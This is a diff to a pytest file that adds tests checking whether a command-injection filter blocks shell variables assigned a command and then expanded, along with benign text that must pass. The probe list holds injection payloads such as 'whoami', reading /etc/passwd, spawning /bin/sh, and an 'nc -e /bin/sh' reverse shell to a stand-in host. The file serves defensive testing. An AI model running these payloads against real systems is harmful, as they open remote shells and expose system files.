@@ -349,3 +349,41 @@ def test_written_line_ends_in_text_and_paths_pass(edge, value):
     for send in (send_note, send_query):
         status, rid = send(edge, value)
         assert status != 403, (send.__name__, value, edge.audit_for(rid))
+
+
+# A variable given a command line, then expanded where a command stands:
+# the shell runs what it holds ("a=whoami;$a"). Found by corpus_evasion (a
+# line break for ";": NAME=$'cmd ...' then $NAME; the corpus's variable
+# was named CMD, which read as cmd.exe); probes written before the change.
+VARIABLE_COMMANDS = [
+    "a=whoami;$a", "X=$'uname -a';$X", "X=$'uname -a'\n$X",
+    "c='cat /etc/passwd'\n$c", ";p=ping;$p -c 5 127.0.0.1",
+    "|s=/bin/sh;${s} -i", "v=\"nc -e /bin/sh evil.example 4444\" && $v",
+    "x'; run=id; $run #",
+]
+# assignments and dollar signs of text, spreadsheets and prices
+VARIABLE_TEXT = [
+    "price=$5 and tax=$1", "x=1\ny=$x+2", "Set EDITOR=vim, then run $EDITOR to edit",
+    "total=$total + $fee", "mode=ls means list; $mode is shown above",
+    "a=b;$a is a variable in shell docs",
+]
+
+
+# (strict xfails until the rule that reads them lands)
+_BEFORE = {"v=\"nc -e /bin/sh evil.example 4444\" && $v"}
+
+
+@pytest.mark.parametrize("value", [
+    v if v in _BEFORE else pytest.param(v, marks=pytest.mark.xfail(
+        strict=True, reason="a variable's command line is not read yet"))
+    for v in VARIABLE_COMMANDS])
+def test_a_variable_holding_a_command_run_where_a_command_stands(rce_edge,
+                                                                value):
+    assert_blocked_by_rce(rce_edge, value)
+
+
+@pytest.mark.parametrize("value", VARIABLE_TEXT)
+def test_assignments_and_dollars_in_text_pass(edge, value):
+    for send in (send_note, send_query):
+        status, rid = send(edge, value)
+        assert status != 403, (send.__name__, value, edge.audit_for(rid))
